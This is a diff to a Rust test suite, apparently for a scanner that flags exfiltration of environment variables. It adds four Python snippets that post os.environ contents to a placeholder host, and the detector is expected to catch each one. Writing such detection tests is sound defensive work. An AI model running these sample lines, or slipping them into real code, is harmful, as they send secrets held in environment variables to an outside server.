@@ -68,6 +68,15 @@ fn environments_that_are_sent_convict() {
         &["/app.js"],
         &[],
     );
+    for honest in [
+        "r = requests.post('https://h.example', json={'t': value_of(os.environ, 'TERM')})",
+        "env = dict(os.environ)\nrequests.post('https://h.example', json={'t': env['TERM'], 'u': env.get('U')})",
+        "env = os.environ.copy()\ndef send(env):\n    requests.post('https://h.example', json=env)",
+        "subprocess.run(['x'], env=os.environ)\nrequests.post('https://h.example', data=subprocess.check_output(['y'], env=os.environ))",
+    ] {
+        let script = format!("#!/usr/bin/env python3\nimport os, requests, subprocess\n{honest}\n");
+        check_file(&Theft, "s.py", &script, &["/s.py"], &[]);
+    }
 }
 
 #[test]
